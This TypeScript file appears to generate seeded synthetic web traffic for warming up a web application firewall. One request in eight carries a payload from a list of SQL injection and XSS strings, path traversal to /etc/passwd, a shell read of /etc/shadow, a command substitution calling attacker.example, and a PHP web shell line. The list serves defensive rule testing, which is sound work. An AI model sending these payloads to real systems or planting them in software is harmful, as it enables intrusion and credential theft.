/**
 * Synthetic traffic for the engine warm-up (warm-up.ts): the shapes a web
 * service sees (browser GETs, form, JSON, XML and multipart posts, and a few
 * attacks so that the matching, scoring and blocking paths run too).
 *
 * Values vary with a seeded PRNG, as real traffic does: a value the engine has
 * not seen takes other paths (screening, cache records) than one it has. The
 * sequence is fixed, so every process warms up the same way.
 */

export interface WarmUpExchange {
  readonly method: string;
  readonly uri: string;
  /** Raw header pairs, as a client sends them. */
  readonly headers: readonly (readonly [string, string])[];
  readonly body?: Buffer;
  readonly status: number;
  readonly responseHeaders: readonly (readonly [string, string])[];
  readonly responseBody: Buffer;
}

/** xorshift32: enough variety for warm-up values, and the same sequence every start. */
class Sequence {
  #state: number;

  constructor(seed: number) {
    this.#state = seed >>> 0 || 1;
  }

  next(): number {
    let x = this.#state;
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    this.#state = x >>> 0;
    return this.#state;
  }

  below(n: number): number {
    return this.next() % n;
  }

  pick<T>(list: readonly T[]): T {
    return list[this.below(list.length)] as T;
  }
}

const NOUNS = ['invoice', 'order', 'profile', 'report', 'ticket', 'account', 'basket', 'photo', 'comment', 'device'];
const ADJECTIVES = ['recent', 'open', 'archived', 'shared', 'draft', 'public', 'paid', 'pending'];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'okhttp/4.12.0',
  'curl/8.10.1',
];

/** Inputs that CRS and picket's own rules flag: SQL and XSS (libinjection), shell, traversal, PHP. */
const ATTACKS = [
  "1' OR '1'='1' --",
  'x UNION SELECT password FROM users',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  ';cat /etc/shadow',
  '$(curl attacker.example)',
  '<?php system($_GET["c"]); ?>',
];

function word(seq: Sequence): string {
  return `${seq.pick(ADJECTIVES)}-${seq.pick(NOUNS)}`;
}

function id(seq: Sequence): string {
  return (seq.next() % 10_000_000).toString(36);
}

function browserHeaders(seq: Sequence, extra: readonly (readonly [string, string])[] = []): (readonly [string, string])[] {
  return [
    ['Host', 'warm-up.picket.internal'],
    ['User-Agent', seq.pick(AGENTS)],
    ['Accept', 'text/html,application/xhtml+xml,application/json;q=0.9,*/*;q=0.8'],
    ['Accept-Language', 'en-GB,en;q=0.7,de;q=0.3'],
    ['Accept-Encoding', 'gzip, deflate, br'],
    ['Cookie', `session=${id(seq)}${id(seq)}; prefs=${seq.pick(ADJECTIVES)}`],
    ...extra,
  ];
}

const HTML: readonly (readonly [string, string])[] = [['Content-Type', 'text/html; charset=utf-8'], ['Cache-Control', 'no-store']];
const JSON_TYPE: readonly (readonly [string, string])[] = [['Content-Type', 'application/json'], ['Cache-Control', 'no-store']];

function page(seq: Sequence): Buffer {
  return Buffer.from(`<html><body><h1>${word(seq)}</h1><p>${word(seq)} ${id(seq)}</p></body></html>`);
}

function withBody(
  seq: Sequence, method: string, uri: string, type: string, body: Buffer,
): WarmUpExchange {
  return {
    method,
    uri,
    headers: browserHeaders(seq, [['Content-Type', type], ['Content-Length', String(body.length)]]),
    body,
    status: 200,
    responseHeaders: JSON_TYPE,
    responseBody: Buffer.from(`{"ok":true,"id":"${id(seq)}"}`),
  };
}

function get(seq: Sequence, attack: string | null): WarmUpExchange {
  const q = attack === null ? word(seq) : attack;
  return {
    method: 'GET',
    uri: `/${seq.pick(NOUNS)}s/${id(seq)}?q=${encodeURIComponent(q)}&page=${seq.below(50)}&sort=${seq.pick(ADJECTIVES)}`,
    headers: browserHeaders(seq, [['Referer', `https://warm-up.picket.internal/${seq.pick(NOUNS)}`]]),
    status: 200,
    responseHeaders: HTML,
    responseBody: page(seq),
  };
}

function form(seq: Sequence, attack: string | null): WarmUpExchange {
  const fields = new URLSearchParams({ name: word(seq), email: `${id(seq)}@example.org`, note: attack ?? `${word(seq)} ${word(seq)}`, qty: String(seq.below(20)) });
  return withBody(seq, 'POST', `/${seq.pick(NOUNS)}s`, 'application/x-www-form-urlencoded', Buffer.from(fields.toString()));
}

function json(seq: Sequence, attack: string | null): WarmUpExchange {
  const items = Array.from({ length: 2 + seq.below(24) }, () => ({ sku: id(seq), title: word(seq), qty: seq.below(9), price: seq.below(9999) / 100 }));
  const body = { customer: { name: word(seq), email: `${id(seq)}@example.org` }, note: attack ?? word(seq), items, gift: seq.below(2) === 1 };
  return withBody(seq, seq.pick(['POST', 'PUT', 'PATCH']), `/api/v1/${seq.pick(NOUNS)}s/${id(seq)}`, 'application/json', Buffer.from(JSON.stringify(body)));
}

function xml(seq: Sequence, attack: string | null): WarmUpExchange {
  const note = (attack ?? word(seq)).replaceAll('&', '&amp;').replaceAll('<', '&lt;');
  const root = seq.pick(NOUNS);
  const body = `<?xml version="1.0"?><${root}><title>${word(seq)}</title><note>${note}</note></${root}>`;
  return withBody(seq, 'POST', `/soap/${root}`, 'text/xml', Buffer.from(body));
}

function multipart(seq: Sequence, attack: string | null): WarmUpExchange {
  const boundary = `----picketwarmup${id(seq)}`;
  const file = Buffer.alloc(512 + seq.below(4096), 0x61 + seq.below(26));
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n${attack ?? word(seq)}\r\n`),
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="upload"; filename="${seq.pick(NOUNS)}.txt"\r\nContent-Type: text/plain\r\n\r\n`),
    file,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return withBody(seq, 'POST', `/upload?folder=${id(seq)}`, `multipart/form-data; boundary=${boundary}`, body);
}

const SHAPES = [get, get, get, form, json, json, multipart, xml];

/** The n-th exchange of the warm-up sequence; one in eight carries an attack. */
export function warmUpTraffic(seed = 0x9e3779b9): () => WarmUpExchange {
  const seq = new Sequence(seed);
  let n = 0;
  return () => {
    const shape = SHAPES[n % SHAPES.length]!;
    const attack = n % 8 === 5 ? ATTACKS[(n >>> 3) % ATTACKS.length]! : null;
    n++;
    return shape(seq, attack);
  };
}
